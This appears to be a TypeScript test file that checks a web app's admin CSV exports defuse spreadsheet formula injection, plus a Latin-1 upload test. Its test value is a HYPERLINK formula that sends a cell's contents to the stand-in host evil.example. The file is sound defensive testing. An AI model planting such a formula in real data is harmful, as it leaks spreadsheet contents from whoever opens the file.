import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { testDatabase, type TestDatabase } from './helpers/db.js';
import { TestClient, addPerson, testBaton } from './helpers/app.js';
import { systemActor } from '../src/platform/actor.js';
import type { Baton } from '../src/server.js';
import * as bulletin from '../src/modules/bulletin/service.js';
import { startSend } from '../src/modules/mailing/sender.js';
import * as sends from '../src/modules/mailing/sends.js';
import * as subs from '../src/modules/mailing/subscriptions.js';
import * as rota from '../src/modules/rota/service.js';

// Every CSV download, fetched over HTTP as an admin would, with a formula where a name goes; and a Latin-1 upload.
let database: TestDatabase;
let baton: Baton;
let admin: TestClient;
const system = systemActor('test');
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")';

beforeAll(async () => {
  database = await testDatabase();
  baton = await testBaton(database);
});
afterAll(async () => {
  await baton.close();
  await database.close();
});
beforeEach(async () => {
  await database.reset();
  await addPerson(database.db, { email: 'admin@example.org', accessRole: 'admin', name: 'Zoë Admin' });
  admin = new TestClient(baton.app, database.db);
  await admin.signIn('admin@example.org');
});

/** Fetches a CSV download and reads it back as records, checking what every export promises. */
async function download(url: string): Promise<Array<Record<string, string>>> {
  const res = await admin.get(url);
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
  expect(res.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  return parse(res.rawPayload.subarray(3).toString('utf8'), { columns: true }) as Array<Record<string, string>>;
}

describe('CSV exports', () => {
  it('the subscribers of a list: a name typed into the public join form comes out defused', async () => {
    const list = await subs.createList(database.db, system, { name: 'Regional Update' });
    const visitor = new TestClient(baton.app, database.db);
    await visitor.get('/subscribe');
    const joined = await visitor.post('/subscribe', {
      list: String(list.id),
      email: 'joe@example.org',
      name: FORMULA,
      organisation: '+44 Dudley',
    });
    expect(joined.statusCode).toBe(303);
    const rows = await download(`/admin/lists/${list.id}/subscribers.csv`);
    expect(rows).toEqual([
      expect.objectContaining({ email: 'joe@example.org', name: `'${FORMULA}`, organisation: "'+44 Dudley", status: 'unconfirmed' }),
    ]);
  });

  it('the recipients of a send', async () => {
    await subs.upsertSubscribers(database.db, system, {
      lists: ['Regional Update'],
      subscribers: [
        { email: 'joe@example.org', name: FORMULA },
        { email: 'zoe@example.org', name: 'Zoë Brontë' },
      ],
    });
    const { id } = await bulletin.createEdition(database.db, system, { title: 'Regional Update – June 2023', month: '2023-06' });
    await bulletin.transition(database.db, system, id, 'publish');
    const send = await sends.createSend(database.db, system, id, { list: 'Regional Update' });
    await startSend(database.db, send.id, new Date());
    const rows = await download(`/admin/sends/${send.id}/deliveries.csv`);
    expect(rows.map((r) => [r.email, r.name, r.status])).toEqual([
      ['joe@example.org', `'${FORMULA}`, 'pending'],
      ['zoe@example.org', 'Zoë Brontë', 'pending'],
    ]);
  });

  it('the people of the directory', async () => {
    await addPerson(database.db, { email: 'f@example.org', name: FORMULA, role: 'other' });
    const rows = await download('/admin/people/export.csv');
    expect(rows.find((r) => r.email === 'f@example.org')!.name).toBe(`'${FORMULA}`);
    expect(rows.find((r) => r.email === 'admin@example.org')!.name).toBe('Zoë Admin');
  });

  it('the introduction rota', async () => {
    await addPerson(database.db, { email: 'dcs@example.org', name: FORMULA, role: 'director' });
    await rota.assignSlot(database.db, system, { month: '2031-05', person: 'dcs@example.org' });
    const rows = await download('/admin/rota.csv');
    expect(rows).toEqual([expect.objectContaining({ month: '2031-05', author: `'${FORMULA}`, email: 'dcs@example.org' })]);
  });

  it('an uploaded Latin-1 file is read as Windows-1252, and the page says so', async () => {
    const page = await admin.get('/admin/people/import');
    const csrf = /name="_csrf" value="([^"]+)"/.exec(page.body)![1]!;
    const boundary = 'baton-test-boundary';
    const payload = Buffer.concat([
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="_csrf"\r\n\r\n${csrf}\r\n`),
      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="people.csv"\r\nContent-Type: text/csv\r\n\r\n`),
      Buffer.from('name,email,role\nZoë Brontë,zoe@example.org,director\n', 'latin1'),
      Buffer.from(`\r\n--${boundary}--\r\n`),
    ]);
    const res = await baton.app.inject({
      method: 'POST',
      url: '/admin/people/import',
      payload,
      headers: {
        cookie: [...admin.cookies].map(([k, v]) => `${k}=${v}`).join('; '),
        'content-type': `multipart/form-data; boundary=${boundary}`,
      },
    });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('1 added, 0 updated');
    expect(res.body).toContain('was not saved as UTF-8');
    const rows = await download('/admin/people/export.csv');
    expect(rows.find((r) => r.email === 'zoe@example.org')!.name).toBe('Zoë Brontë');
  });
});
